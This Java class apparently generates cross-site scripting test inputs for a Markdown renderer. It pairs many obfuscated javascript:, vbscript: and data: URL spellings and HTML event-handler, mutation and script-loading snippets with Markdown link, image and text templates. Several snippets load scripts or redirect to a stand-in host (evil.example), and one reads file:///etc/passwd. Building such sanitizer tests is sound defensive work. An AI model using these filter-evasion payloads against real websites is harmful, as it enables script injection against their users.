package org.parley.markdown;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;

/**
 * Cross-site scripting attempts: every spelling of a dangerous address in every place where Markdown takes an address,
 * and every HTML snippet in every place where Markdown takes text. A successful one calls {@code pwned()} or requests
 * {@code evil.example}.
 */
public final class Payloads {
    private static final List<String> SCHEMES = List.of(
            "javascript:pwned()",
            "JaVaScRiPt:pwned()",
            "javascript&colon;pwned()",
            "javascript&#58;pwned()",
            "javascript&#x3A;pwned()",
            "&#106;avascript:pwned()",
            "&#x6A&#x61;vascript:pwned()",
            "&#0000106avascript:pwned()",
            "java&Tab;script:pwned()",
            "java&NewLine;script:pwned()",
            "java&#10;script:pwned()",
            "java\tscript:pwned()",
            "java\0script:pwned()",
            "\u0001javascript:pwned()",
            "&#1;javascript:pwned()",
            "\u00A0javascript:pwned()",
            "\u2028javascript:pwned()",
            "\uFEFFjavascript:pwned()",
            "\u200Bjavascript:pwned()",
            "java\u00ADscript:pwned()",
            "\\javascript:pwned()",
            "javascript\\:pwned()",
            "javascript%3Apwned()",
            "%6Aavascript:pwned()",
            "java%0Ascript:pwned()",
            "javascript://e.example/%0Apwned()",
            "javascript:/*--></title></style></script>*/pwned()",
            "ｊavascript:pwned()",
            "javaſcript:pwned()",
            "vbscript:pwned()",
            "VBSCRIPT:pwned()",
            "livescript:pwned()",
            "mocha:pwned()",
            "data:text/html,<script>pwned()</script>",
            "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
            "data:image/svg+xml,<svg onload=pwned()>",
            "data:,x",
            "view-source:javascript:pwned()",
            "jar:https://evil.example/x!/",
            "feed:javascript:pwned()",
            "blob:https://evil.example/1",
            "file:///etc/passwd",
            "filesystem:http://evil.example/x",
            "intent://evil.example#Intent;end",
            "ws://evil.example",
            "//evil.example/x",
            "/\\evil.example/x",
            "\\\\evil.example\\x",
            "https:javascript:pwned()",
            "https:/evil.example",
            "https:\\\\evil.example",
            "http://\" onmouseover=\"pwned()",
            "http://x' onmouseover='pwned()",
            "http://x><script>pwned()</script>",
            "http://x&quot;onmouseover=&quot;pwned()",
            "mailto:a@b.c\" onclick=\"pwned()",
            "#pwned",
            "?x=<script>",
            "chat.xhtml");

    private static final List<String> PLACES = List.of(
            "[a](%s)",
            "[a](<%s>)",
            "[a](%s \"title\")",
            "![a](%s)",
            "![a](<%s> 'title')",
            "<%s>",
            "[a][r]\n\n[r]: %s",
            "[r]\n\n[r]: <%s> 'title'",
            "![r]\n\n[r]: %s",
            "[![a](%s)](https://a.example)",
            "[![a](https://a.example)](%s)",
            "%s",
            "https://a.example/%s",
            "| [a](%s) |\n|---|\n| ![b](<%s>) |",
            "- [ ] [a](%s)\n  > ![b](%s)",
            "# [a](%s) #");

    private static final List<String> HTML = List.of(
            "<script>pwned()</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>pwned()</scr</script>ipt>",
            "<script\n>pwned()</script\n>",
            "<script/x>pwned()</script>",
            "<<script>pwned()//<</script>",
            "<img src=x onerror=pwned()>",
            "<img/src=//evil.example/i.png/onerror=pwned()>",
            "<img src=\"x`><script>pwned()</script>\"`>",
            "<image href=//evil.example/i.png>",
            "<svg onload=pwned()>",
            "<svg><script>pwned()</script></svg>",
            "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
            "<svg><a xlink:href=javascript:pwned()><text y=9>x</text></a></svg>",
            "<svg><use href=//evil.example/x.svg#a></use></svg>",
            "<svg><style><img src=x onerror=pwned()></style></svg>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=pwned()>\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
            "<math href=javascript:pwned()>x</math>",
            "<math><annotation-xml encoding=text/html><script>pwned()</script></annotation-xml></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
            "<iframe src=javascript:pwned()></iframe>",
            "<iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe>",
            "<object data=javascript:pwned()></object>",
            "<embed src=//evil.example/x.swf>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css';</style>",
            "<div style=\"background:url(//evil.example/x)\">x</div>",
            "<form action=//evil.example><button>x</button></form>",
            "<input autofocus onfocus=pwned()>",
            "<details open ontoggle=pwned()>x</details>",
            "<video><source onerror=pwned()></video>",
            "<audio src=//evil.example/x.mp3 autoplay>",
            "<body onload=pwned()>",
            "<marquee onstart=pwned()>x</marquee>",
            "<template><script>pwned()</script></template>",
            "<textarea></textarea><img src=x onerror=pwned()>",
            "<title></title><img src=x onerror=pwned()>",
            "<xmp></xmp><img src=x onerror=pwned()>",
            "<plaintext><script>pwned()</script>",
            "<!--><img src=x onerror=pwned()>-->",
            "<!-- --!><img src=x onerror=pwned()>",
            "<![CDATA[><img src=x onerror=pwned()>]]>",
            "<?xml ?><img src=x onerror=pwned()>",
            "<!DOCTYPE x [<!ENTITY y SYSTEM '//evil.example'>]>",
            "<a href=javascript:pwned()>x</a>",
            "<a id=messages name=conversations class=composer>x</a>",
            "&lt;script&gt;pwned()&lt;/script&gt;",
            "&#60;img src=x onerror=pwned()&#62;",
            "\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E",
            "<img src=x onerror=pwned()",
            "<a href=\"x\" onclick=pwned()",
            "\"><script>pwned()</script>",
            "'-pwned()-'",
            "</script><script>pwned()</script>",
            "</title></textarea></style></noscript></code></pre><svg onload=pwned()>",
            "#{pwned()} ${pwned()} {{pwned()}}",
            "\u202E<script>pwned()</script>",
            "<\0script>pwned()</script>",
            "<x:script xmlns:x=http://www.w3.org/1999/xhtml>pwned()</x:script>");

    private static final List<String> TEXTS = List.of(
            "%s",
            "before %s after",
            "# %s",
            "> %s",
            "- [x] %s",
            "**%s**",
            "`%s`",
            "    %s",
            "```%s\ncode\n```",
            "```html\n%s\n```",
            "~~~ x\" onload=\"pwned() %s\n~~~",
            "| %s |\n|---|\n| %s |",
            "[%s](https://a.example)",
            "![%s](https://a.example/i.png)",
            "[a](https://a.example \"%s\")",
            "[a](https://a.example '%s')",
            "$%s$",
            "$$\n%s\n$$",
            "\\(%s\\)",
            "[%s]: https://a.example '%s'\n\n[%s]");

    private Payloads() {}

    /** Every combination, each once. */
    public static List<String> all() {
        Set<String> all = new TreeSet<>();
        fill(all, PLACES, SCHEMES);
        fill(all, TEXTS, HTML);
        return new ArrayList<>(all);
    }

    /** The addresses and snippets alone, as they would appear in a title or a name. */
    public static List<String> pieces() {
        Set<String> all = new TreeSet<>(SCHEMES);
        all.addAll(HTML);
        return new ArrayList<>(all);
    }

    private static void fill(Set<String> all, List<String> places, List<String> pieces) {
        for (String place : places) {
            for (String piece : pieces) {
                all.add(place.replace("%s", piece));
            }
        }
    }
}
